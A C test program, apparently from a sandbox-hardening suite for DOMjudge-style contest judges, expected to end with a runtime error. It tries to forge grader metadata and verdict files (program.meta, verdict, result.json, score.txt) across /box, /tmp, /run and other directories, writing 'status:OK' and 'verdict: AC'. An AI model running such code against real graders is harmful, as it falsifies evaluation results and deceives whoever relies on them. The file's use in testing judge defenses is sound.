/* attack: writes the files in which judges keep their results, then fails
 * expect: RE
 * exploit: DOMjudge, forged metadata
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    const char *tops[] = {"/box", "/tmp", ".", "..", "/", "/run", "/dev/shm"};
    const char *names[] = {"program.meta", "compare.meta", "metadata.txt", "status", "verdict", "result.json", "report", "score.txt", "feedback/score.txt"};
    for (int t = 0; t < 7; t++)
        for (int n = 0; n < 9; n++) {
            char path[64];
            snprintf(path, sizeof path, "%s/%s", tops[t], names[n]);
            int fd = open(path, O_CREAT | O_WRONLY, 0666);
            if (fd >= 0) dprintf(fd, "exitcode: 0\nstatus:OK\nverdict: AC\ncpu-time: 0.0\n");
        }
    puts("held");
    return 1;
}
